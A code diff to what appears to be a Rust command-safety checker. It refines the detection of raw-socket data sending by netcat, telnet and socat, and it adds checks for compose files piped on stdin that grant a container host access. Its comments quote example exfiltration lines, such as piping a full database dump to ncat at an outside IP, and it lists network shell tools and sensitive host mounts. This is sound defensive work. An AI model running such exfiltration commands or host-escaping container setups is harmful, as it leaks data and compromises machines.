@@ -522,9 +522,6 @@ fn build_task_publishes(task: &str) -> bool {
         || matches!(goal, "deploy" | "release" | "nexus-staging")
 }
 
-/// netcat by the names systems install it under.
-pub(super) const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
-
 /// Whether a command sends another machine what it reads over a raw
 /// connection: a netcat or telnet given stdin (`mysqldump --all-databases
 /// | ncat 198.51.100.7 9000`, `nc host 9000 < data.csv`), socat joining a
@@ -532,7 +529,7 @@ pub(super) const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", 
 /// read (a bash `/dev/tcp/…` redirect is `net.reverse_shell`'s). A port
 /// probe (`nc -z`) sends nothing; loopback is this machine.
 pub(super) fn sends_raw(c: &Cmd<'_>) -> bool {
-    let netcat = c.is(NETCATS) || c.is(&["telnet", "pwncat"]);
+    let netcat = c.is(super::cmd::NETCATS) || c.is(&["telnet", "pwncat"]);
     if !netcat && c.name != "socat" {
         return false;
     }
@@ -540,8 +537,9 @@ pub(super) fn sends_raw(c: &Cmd<'_>) -> bool {
     // walk records each as stdin text, known or only known when it runs.
     let fed = c.command.stdin_text.is_some() || c.command.stdin_dynamic;
     if netcat {
+        // (`-U`: a Unix socket, on this machine.)
         return fed
-            && !c.flag(&["-z", "-l", "--listen"])
+            && !c.flag(&["-z", "-l", "--listen", "-U"])
             && c.operands()
                 .iter()
                 .find(|w| !w.value.bytes().all(|b| b.is_ascii_digit()))
@@ -934,6 +932,9 @@ pub(super) fn container_privileged(c: &Cmd<'_>) -> bool {
     if c.is(&["lxc", "incus"]) {
         return lxd_grants_host(c);
     }
+    if let Some(text) = compose_on_stdin(c) {
+        return compose_grants_host(c, text);
+    }
     if !c.is(&["docker", "podman", "nerdctl"]) {
         return false;
     }
@@ -972,6 +973,59 @@ pub(super) fn container_privileged(c: &Cmd<'_>) -> bool {
             })
         })
 }
+/// The compose file a compose tool reads on stdin to start its services
+/// (`printf 'services: …' | docker compose -f - up`).
+fn compose_on_stdin<'a>(c: &Cmd<'a>) -> Option<&'a str> {
+    let ops = c.operands();
+    let compose = c.is(&["docker-compose", "podman-compose"])
+        || c.is(&["docker", "podman", "nerdctl"])
+            && ops.first().is_some_and(|w| w.value == "compose");
+    let starts = ops.iter().take(3).any(|w| {
+        matches!(
+            w.value.as_str(),
+            "up" | "run" | "create" | "start" | "restart" | "exec"
+        )
+    });
+    let from_stdin = c
+        .option_values(&["-f", "--file"])
+        .iter()
+        .any(|f| matches!(*f, "-" | "/dev/stdin"));
+    (compose && starts && from_stdin)
+        .then_some(c.command.stdin_text.as_deref())
+        .flatten()
+}
+
+/// Whether a compose file's text gives a service host-level access:
+/// `privileged: true`, the host's process, IPC or user namespace, no
+/// confinement, powerful capabilities, devices, or a host folder mounted
+/// (`"/:/host"`, `~/.ssh:/k`, `source: /var/run/docker.sock`). Read
+/// from its words, not as YAML: a word that only looks like one asks.
+fn compose_grants_host(c: &Cmd<'_>, text: &str) -> bool {
+    let value = |line: &str, key: &str| {
+        line.strip_prefix(key)
+            .and_then(|rest| rest.trim_start().strip_prefix(':'))
+            .map(|v| v.trim().trim_matches(['"', '\'']).to_ascii_lowercase())
+    };
+    let mounts = |word: &str| {
+        let spec = word.trim_matches(|ch| matches!(ch, '[' | ']' | '"' | '\'' | ',' | '-'));
+        spec.split_once(':')
+            .is_some_and(|(src, _)| src.starts_with(['/', '~']) && host_folder(c, src))
+    };
+    text.lines().map(str::trim).any(|line| {
+        value(line, "privileged").is_some_and(|v| matches!(v.as_str(), "true" | "yes"))
+            || ["pid", "ipc", "userns_mode"]
+                .iter()
+                .any(|k| value(line, k).as_deref() == Some("host"))
+            || value(line, "devices").is_some()
+            || line.contains("unconfined")
+            || line.contains("SYS_ADMIN")
+            || value(line, "- source")
+                .or_else(|| value(line, "source"))
+                .is_some_and(|v| v.starts_with(['/', '~']) && host_folder(c, &v))
+            || line.split_whitespace().any(mounts)
+    })
+}
+
 /// The host's root, a home, a hidden folder in it, a system folder, or a
 /// folder that holds a container engine's socket (`/var/run`, `/run`):
 /// what a container given it reaches of the machine.
